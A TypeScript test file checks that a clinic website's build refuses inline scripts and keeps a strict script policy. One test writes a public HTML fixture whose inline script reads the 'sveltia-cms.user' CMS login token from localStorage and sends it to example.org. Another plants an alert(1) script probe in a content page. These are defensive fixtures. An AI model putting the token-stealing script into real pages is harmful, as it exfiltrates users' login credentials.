import { execFile } from 'node:child_process'
import { readFileSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { promisify, stripVTControlCharacters } from 'node:util'
import { afterAll, expect, inject, test } from 'vitest'
import { buildEnv } from '../buildSite.ts'
import { copyProject } from '../projectCopy.ts'

// The build never widens the security policy from what it finds (issue 32): an
// inline script that the site did not write, from a page that got past the
// check or from a file of public/, stops it at its line; the policy of a good
// build allows no inline script at all.

const { root, remove } = copyProject('clinic-inline-scripts-')
afterAll(remove)
const run = promisify(execFile)

async function build(env: Record<string, string> = {}): Promise<{ status: number; output: string }> {
  try {
    const { stdout, stderr } = await run('npx', ['vike', 'build'], { cwd: root, env: buildEnv(env), maxBuffer: 64 * 1024 * 1024 })
    return { status: 0, output: stripVTControlCharacters(stdout + stderr) }
  } catch (error) {
    const failed = error as { code?: number; stdout?: string; stderr?: string }
    return { status: typeof failed.code === 'number' ? failed.code : -1, output: stripVTControlCharacters(`${failed.stdout ?? ''}${failed.stderr ?? ''}`) }
  }
}

const scriptSources = (headers: string) => /script-src ([^;\n]+)/.exec(headers)?.[1] ?? ''

test('a good build: no inline script on any page, and a policy that allows none', () => {
  // The suite's shared build of the frozen site (tests/frozenBuild.ts): `npx vike build`, which succeeded.
  const { client, output } = inject('frozenBuild')
  const headers = readFileSync(join(client, '_headers'), 'utf8')
  expect(scriptSources(headers)).not.toMatch(/sha256-|unsafe-inline/)
  expect(output).toContain('własne skrypty inline: 0')
})

test('a file of public/ with an inline script stops the build at the script, and nothing is allowed', async () => {
  const file = join(root, 'public/ogloszenie.html')
  writeFileSync(
    file,
    '<!doctype html>\n<html lang="pl">\n<head><title>Ogłoszenie</title></head>\n<body>\n<script>fetch("https://example.org/?t=" + localStorage.getItem("sveltia-cms.user"))</script>\n</body>\n</html>\n',
  )
  try {
    // As if the content check had missed it (its rule plik-publiczny refuses any HTML file in public/).
    const { status, output } = await build({ CLINIC_BUILD_WITHOUT_CHECK: '1' })
    expect(status, output).toBe(1)
    expect(output).toMatch(/^public\/ogloszenie\.html:5:1: ten plik HTML zawiera skrypt wpisany w stronę \(<script> bez src\)/m)
    expect(output).not.toMatch(/^\s+at /m)
  } finally {
    rmSync(file)
  }
}, 180_000)

test('a <script> in a page that got past the check stops the build too, at its line', async () => {
  const page = join(root, 'content/proba.mdx')
  writeFileSync(
    page,
    [
      '---',
      'title: Strona próbna',
      'description: "Strona próbna do testów budowania: ma poprawne pola i skrypt, którego sprawdzenie nie widziało."',
      'group: uslugi',
      '---',
      '',
      '<script>{"alert(1)"}</script>',
      '',
    ].join('\n'),
  )
  try {
    // As if the content check had missed it: the compile's own guard (lib/content/remarkContentGuard.ts) refuses it.
    const { status, output } = await build({ CLINIC_BUILD_WITHOUT_CHECK: '1' })
    expect(status, output).toBe(1)
    expect(output).toMatch(/^content\/proba\.mdx:7:1: znacznik <script> nie jest dozwolony w treści strony/m)
  } finally {
    rmSync(page)
  }
}, 180_000)
